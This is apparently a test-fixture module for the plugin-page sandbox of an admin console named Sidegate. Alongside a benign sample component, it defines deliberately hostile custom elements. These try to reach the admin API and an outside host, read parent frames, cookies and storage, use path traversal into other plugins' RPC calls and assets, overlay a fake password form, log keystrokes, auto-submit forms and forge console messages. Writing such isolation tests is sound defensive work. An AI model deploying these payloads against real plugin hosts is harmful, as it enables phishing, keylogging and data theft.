// Pages of plugins, as authors write them and as nobody should: the scripts of custom elements. And who looks at them.

/** Somebody who looks at the page of a plugin. */
export async function look({ api, come }, id, { token = api.token, path = "page/own" } = {}) {
  const visitor = await come();
  await visitor.signIn(token);
  await visitor.open(`/plugins/${id}/pages/${path}`);
  const frame = visitor.page.frameLocator(".plugin-page iframe");
  return { visitor, page: visitor.page, frame, around: visitor.page.locator(".plugin-page") };
}

/** What clients get of a plugin. */
export async function served(gateway, name) {
  return (await fetch(`${gateway.clients}/plugins/${name}/`)).text();
}

/** A component as authors of existing plugins write it: a global class, an inline handler, a dialog, waiting for `pluginAPI`. */
export const honest = (tag) => `
class Notes_${tag.replaceAll("-", "_")} extends HTMLElement {
  constructor() {
    super();
    this.attachShadow({ mode: "open" });
  }
  connectedCallback() {
    this.shadowRoot.innerHTML = \`
      <style>
        :host { display: block; padding: 24px; color: #1a1a2e; }
        .message { min-height: 20px; }
      </style>
      <h2>Notes of \${this.dataset.whose}, \${this.dataset.longName}</h2>
      <label for="content">Content</label>
      <textarea id="content"></textarea>
      <button id="save" onclick="this.getRootNode().host.save()">Save</button>
      <button id="fail" onclick="this.getRootNode().host.fail()">Fail</button>
      <button id="remove" onclick="this.getRootNode().host.remove_()">Remove</button>
      <button id="about" onclick="this.getRootNode().querySelector('dialog').showModal()">About</button>
      <dialog><p>A page of a plugin.</p><form method="dialog"><button>Close</button></form></dialog>
      <p class="message" role="status"></p>
    \`;
    this.waitForPluginAPI();
  }
  async waitForPluginAPI() {
    for (let i = 0; i < 50; i++) {
      if (this.pluginAPI) return this.load(i);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    this.say("no pluginAPI came");
  }
  say(text) {
    this.shadowRoot.querySelector(".message").textContent = text;
  }
  async load(waited) {
    const { content } = await this.pluginAPI.call("get_config");
    this.shadowRoot.querySelector("#content").value = content;
    this.say("loaded after " + waited + " tries");
  }
  async save() {
    this.say("saving");
    try {
      const content = this.shadowRoot.querySelector("#content").value;
      const { message } = await this.pluginAPI.call("save_config", { content });
      this.say(message);
    } catch (error) {
      this.say("not saved: " + error.message);
    }
  }
  async fail() {
    try {
      await this.pluginAPI.call("fail", {});
    } catch (error) {
      this.say([error instanceof Error, error.message, error.response.status, error.response.data.errors[0].detail].join(" | "));
    }
  }
  async remove_() {
    if (confirm("Remove the content?")) {
      this.shadowRoot.querySelector("#content").value = "";
      await this.save();
    }
  }
}
customElements.define("${tag}", Notes_${tag.replaceAll("-", "_")});
`;

/** Tries all that a page must not get; writes what came of each try, one to a line: \`name: what it got\`. */
export const hostile = (tag, elsewhere) => `
class Hostile extends HTMLElement {
  async connectedCallback() {
    const elsewhere = ${JSON.stringify(elsewhere)};
    const results = document.createElement("pre");
    results.id = "results";
    results.style = "position: relative";
    document.body.append(results);
    const attempt = async (name, what) => {
      let got;
      try {
        got = await Promise.race([what(), new Promise((resolve) => setTimeout(resolve, 1500, "nothing happened"))]);
      } catch (error) {
        got = "refused " + error.name;
      }
      results.append(name + ": " + got + "\\n");
    };
    await attempt("fetch of the admin API", () => fetch("/api/v1/plugins").then((answer) => "GOT " + answer.status));
    await attempt("fetch from elsewhere", () => fetch(elsewhere, { mode: "no-cors" }).then(() => "GOT"));
    await attempt("XMLHttpRequest", () => new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve("GOT " + request.status);
      request.onerror = () => resolve("refused");
      request.open("GET", "/api/v1/plugins");
      request.send();
    }));
    await attempt("WebSocket", () => new Promise((resolve) => {
      const socket = new WebSocket(elsewhere.replace("http", "ws"));
      socket.onopen = () => resolve("GOT");
      socket.onerror = () => resolve("refused");
    }));
    await attempt("EventSource", () => new Promise((resolve) => {
      const events = new EventSource("/api/v1/live");
      events.onopen = () => resolve("GOT");
      events.onerror = () => resolve("refused");
    }));
    await attempt("beacon", () => (navigator.sendBeacon(elsewhere, "x"), "sent or not"));
    await attempt("image", () => new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve("GOT");
      image.onerror = () => resolve("refused");
      image.src = elsewhere + "/image.png";
    }));
    await attempt("script from elsewhere", () => new Promise((resolve) => {
      const script = document.createElement("script");
      script.onload = () => resolve("GOT");
      script.onerror = () => resolve("refused");
      script.src = elsewhere + "/script.js";
      document.head.append(script);
    }));
    await attempt("import", () => import(elsewhere + "/module.js").then(() => "GOT"));
    await attempt("worker", () => new Promise((resolve) => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      worker.onmessage = () => resolve("GOT");
      worker.onerror = () => resolve("refused");
    }));
    await attempt("document of the console", () => "GOT " + parent.document.title);
    await attempt("location of the console", () => "GOT " + parent.location.href);
    await attempt("going elsewhere with the console", () => ((top.location = elsewhere + "/top"), "tried"));
    await attempt("localStorage", () => "GOT " + localStorage.length);
    await attempt("sessionStorage", () => "GOT " + sessionStorage.length);
    await attempt("indexedDB", () => new Promise((resolve, reject) => {
      const request = indexedDB.open("x");
      request.onsuccess = () => resolve("GOT");
      request.onerror = () => reject(request.error);
    }));
    await attempt("cookies", () => "GOT " + document.cookie);
    await attempt("window", () => (window.open(elsewhere + "/window") ? "GOT" : "refused"));
    await attempt("frame of the console", () => new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.src = "/console/";
      frame.onload = () => { try { resolve("GOT " + frame.contentDocument.title); } catch { resolve("refused"); } };
      document.body.append(frame);
    }));
    await attempt("method of another plugin", () => this.pluginAPI.call("../../../1/rpc/get_config", {}).then((got) => "GOT " + JSON.stringify(got)));
    await attempt("step up", () => this.pluginAPI.call("..", {}).then((got) => "GOT " + JSON.stringify(got)));
    await attempt("file of another plugin", () => this.pluginAPI.asset("../../1/assets/page.js").then(() => "GOT"));
    await attempt("message to the console", () => {
      for (const target of [parent, top]) target.postMessage({ type: "call", id: 1, method: "get_config", payload: "{}" }, "*");
      return "sent";
    });
    results.append("origin: " + self.origin + "\\n");
    // A form like one of the console's, over all that can be reached.
    const over = document.createElement("div");
    over.id = "over";
    over.style = "position: fixed; inset: -2000px; z-index: 2147483647; background: #fffe";
    over.innerHTML = "<form><label>Password of Sidegate <input type=password></label></form>";
    document.body.append(over);
    results.append("done\\n");
  }
}
customElements.define("${tag}", Hostile);
`;

/** Sends a form, as soon as it is shown, to an address and with it the frame; the address says which. */
export const sender = (tag, action, target) => `
customElements.define("${tag}", class extends HTMLElement {
  connectedCallback() {
    const form = document.createElement("form");
    Object.assign(form, { action: ${JSON.stringify(action)}, method: "POST", target: "${target}" });
    document.body.append(form);
    setTimeout(() => form.submit(), 100);
  }
});
`;

/** Wants the keyboard all the time, for a field of its own or for its window, and tells the browser's console each key it gets. */
export const grabber = (tag, wants) => `
customElements.define("${tag}", class extends HTMLElement {
  connectedCallback() {
    this.innerHTML = "<input aria-label=typed>";
    const input = this.querySelector("input");
    addEventListener("keydown", (event) => console.log("heard " + event.key), true);
    setInterval(() => ${wants}.focus(), 20);
  }
});
`;

/** Waits for another frame's beginning and sends it a message and a port of its own, as the console would. */
export const forger = (tag) => `
class Forger extends HTMLElement {
  connectedCallback() {
    setInterval(() => {
      for (let at = 0; at < parent.frames.length; at++) {
        if (parent.frames[at] === self) continue;
        const channel = new MessageChannel();
        channel.port1.postMessage({ type: "start", kind: "webc", tag: "x-forged", props: {}, source: "document.body.append('forged')" });
        parent.frames[at].postMessage("sidegate:page", "*", [channel.port2]);
      }
    }, 1);
    this.append("forging");
  }
}
customElements.define("${tag}", Forger);
`;
